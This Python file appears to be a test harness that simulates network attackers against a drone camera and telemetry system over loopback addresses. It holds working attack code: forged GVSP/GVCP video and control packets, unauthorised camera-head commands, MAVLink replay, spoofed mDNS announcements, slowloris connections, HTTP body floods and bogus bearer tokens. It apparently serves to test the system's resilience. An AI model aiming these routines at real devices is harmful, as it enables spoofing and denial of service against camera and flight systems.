"""Everybody who attacks a flight from the network: a program of its own, at the lowest priority.

The first line of its input is what to aim at (JSON); each further line is "camera" or "elsewhere",
until the input ends. Elsewhere is a port of its own that takes the same and does nothing with it.
It holds itself to a share of one core.
"""

from __future__ import annotations

import contextlib
import json
import os
import resource
import secrets
import select
import socket
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from typing import Any

Address = tuple[str, int]

CPU_SHARE = 0.25
"""Of one core, at most."""
CPU_MAX_S = 120
ROUND_S = 0.02
OTHER_HOST = "127.66.6.6"
SLOW_MAX = 100
FLOOD_NBYTES = 1 << 18
MDNS = ("224.0.0.251", 5353)
BLOCKS = 64
AHEAD = 30
PIXELS = b"\xab\x0a" * 1000


def gvsp(block: int, kind: int, number: int, body: bytes = b"") -> bytes:
    return struct.pack(">HHI", 0, block, kind << 24 | number) + body


def forged_frames(round_: int) -> Iterator[bytes]:
    """A block number far ahead, and parts of the next frames with the attacker's pixels."""
    block = 1 + round_ % BLOCKS
    yield gvsp(block + AHEAD, 3, 1, PIXELS)
    leader = struct.pack(">HHQIIIIIHH", 0, 1, 1, 0x0110_0007, 1248, 832, 0, 0, 0, 0)
    yield gvsp(block, 1, 0, leader)
    for number in range(1, 4):
        yield gvsp(block, 3, number, PIXELS)
    yield gvsp(block, 2, 400, struct.pack(">HHI", 0, 1, 832))


def forged_control(round_: int) -> Iterator[bytes]:
    """Acknowledgements with likely request numbers, and a request for endless patience."""
    for request in range(round_ * 8 % 600, round_ * 8 % 600 + 8):
        number = (65_200 + request) % 65_536 or 1
        for code in (0x0081, 0x0083, 0x0085, 0x0003, 0x0005, 0x00C1):
            yield struct.pack(">HHHHI", 0, code, 4, number, 0)
    yield struct.pack(">HHHHHH", 0, 0x0089, 4, 1, 0, 65_535)


def commands_to_heads() -> Iterator[bytes]:
    """Take control, stop the acquisition, ask for other addresses: heads have to refuse them."""
    for code, body in (
        (0x0082, struct.pack(">II", 0x0A00, 2)),
        (0x0082, struct.pack(">II", 0x0D00, 0)),
        (0x0080, struct.pack(">I", 0x0938)),
        (0x0004, bytes(56)),
        (0x0040, struct.pack(">HHII", 0, 1, 0, 400)),
        (0x0100, struct.pack(">III", 0x5359_4E54, 1, 1)),
    ):
        yield struct.pack(">BBHHH", 0x42, 1, code, len(body), 7) + body


def forged_announcement(round_: int) -> bytes:
    """mDNS: the camera's service, at the attacker's address and port."""

    def name(*labels: str) -> bytes:
        return b"".join(bytes([len(x)]) + x.encode() for x in labels) + b"\0"

    service = name("_syntopic", "_tcp", "local")
    instance = name(f"evil-{round_ % 50}\x1b[31m", "_syntopic", "_tcp", "local")
    host = name("evil", "local")

    def record(owner: bytes, kind: int, data: bytes) -> bytes:
        return owner + struct.pack(">HHIH", kind, 1, 120, len(data)) + data

    answers = [
        record(service, 12, instance),
        record(instance, 33, struct.pack(">HHH", 0, 0, 9) + host),
        record(instance, 16, b"\x09tls=false"),
        record(host, 1, socket.inet_aton(OTHER_HOST)),
    ]
    return struct.pack(">HHHHHH", 0, 0x8400, 0, len(answers), 0, 0) + b"".join(answers)


class Attackers:
    """What is sent in each round, and how much of it went out."""

    def __init__(self, aim: dict[str, Any], sink: Address) -> None:
        self._aim, self._sink = aim, sink
        self._is_at_camera = False
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind((OTHER_HOST, 0))
        self._udp.setsockopt(
            socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1")
        )
        self._udp.setblocking(False)
        self._slow: list[socket.socket] = []
        self._replayed = [bytes.fromhex(frame) for frame in aim["mavlink_frames"]]
        self.sent: Counter[str] = Counter()

    def aim(self, at_camera: bool) -> None:
        self._is_at_camera = at_camera
        for slow in self._slow:
            slow.close()
        self._slow.clear()

    def round(self, number: int) -> None:
        for port in self._aim["udp_ports"]:
            self._send("gvsp", forged_frames(number), port)
            self._send("junk", [secrets.token_bytes(1 + number % 1400)], port)
        for port in self._aim["control_ports"]:
            self._send("gvcp", forged_control(number), port)
        for head in self._aim["heads"]:
            if number % 20 == 0:
                self._send("commands to heads", commands_to_heads(), (head, 3956))
        mavlink = self._aim["mavlink"]
        self._send("mavlink junk", [b"\xfd\xff" + secrets.token_bytes(8)] * 10, mavlink)
        self._send("mavlink replayed", self._replayed * 4, mavlink)
        self._send("announcements", [forged_announcement(number)] * 2, MDNS)
        page = tuple(self._aim["page"])
        self._exchange("slow connections", page, self._dribble)
        if number % 2 == 0:
            self._exchange("floods", page, flood)
            self._exchange("wrong tokens", page, wrong_token)

    def _send(self, kind: str, datagrams: Any, to: Sequence[Any]) -> None:
        there = (to[0], to[1]) if self._is_at_camera else self._sink
        for datagram in datagrams:
            with contextlib.suppress(OSError):
                self._udp.sendto(datagram, there)
                self.sent[kind] += 1

    def _exchange(self, kind: str, page: Any, talk: Callable[[Address], None]) -> None:
        with contextlib.suppress(OSError):
            talk(page if self._is_at_camera else self._sink)
            self.sent[kind] += 1

    def _dribble(self, page: Address) -> None:
        """One more connection, and one more byte of each request that never ends."""
        for slow in list(self._slow):
            try:
                slow.send(b"x")
            except OSError:
                slow.close()
                self._slow.remove(slow)
        if len(self._slow) < SLOW_MAX:
            slow = connected(page)
            slow.send(b"GET /api/v1/state HTTP/1.1\r\nHost: 127.0.0.1\r\nX-")
            self._slow.append(slow)


def connected(page: Address) -> socket.socket:
    connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    connection.settimeout(0.1)
    try:
        connection.bind((OTHER_HOST, 0))
        connection.connect(page)
    except OSError:
        connection.close()
        raise
    return connection


def flood(page: Address) -> None:
    """The begin of a body of 1 GB, as much of it as is taken at once."""
    with connected(page) as talking:
        talking.sendall(
            b"POST /api/v1/commands/stop HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            b"Content-Type: application/json\r\nContent-Length: 1000000000\r\n\r\n"
        )
        talking.sendall(b"[" * FLOOD_NBYTES)


def wrong_token(page: Address) -> None:
    with connected(page) as talking:
        talking.sendall(
            b"GET /api/v1/telemetry HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            b"Authorization: Bearer syn_" + secrets.token_hex(16).encode() + b"\r\n"
            b"Upgrade: websocket\r\nConnection: Upgrade\r\n"
            b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
        )
        talking.recv(512)


def serve_sink(tcp: socket.socket, udp: socket.socket) -> None:
    """Take everything and do nothing with it, until the attackers end."""
    opened: list[socket.socket] = []
    while True:
        ready, _, _ = select.select([tcp, udp, *opened], [], [])
        for one in ready:
            with contextlib.suppress(OSError):
                if one is tcp:
                    opened.append(tcp.accept()[0])
                elif not one.recv(1 << 16) and one is not udp:
                    one.close()
                    opened.remove(one)


def main() -> None:
    os.nice(19)
    resource.setrlimit(resource.RLIMIT_CPU, (CPU_MAX_S, CPU_MAX_S))
    aim = json.loads(sys.stdin.readline())
    tcp = socket.create_server(("127.0.0.1", 0))
    sink = ("127.0.0.1", tcp.getsockname()[1])
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(sink)
    if (child := os.fork()) == 0:
        serve_sink(tcp, udp)
    attackers = Attackers(aim, sink)
    wanted = {"aim": "elsewhere"}
    over = threading.Event()

    def listen() -> None:
        for line in sys.stdin:
            wanted["aim"] = line.strip()
        over.set()

    threading.Thread(target=listen, daemon=True).start()
    began_s, done, number = time.monotonic(), "elsewhere", 0
    while not over.is_set():
        if wanted["aim"] != done:
            done = wanted["aim"]
            attackers.aim(done == "camera")
        attackers.round(number)
        number += 1
        ahead_s = time.process_time() / CPU_SHARE - (time.monotonic() - began_s)
        over.wait(max(ahead_s, ROUND_S))
    os.kill(child, 9)
    summary = {"sent": attackers.sent, "rounds": number, "cpu_s": round(time.process_time(), 1)}
    print(json.dumps(summary))


if __name__ == "__main__":
    main()
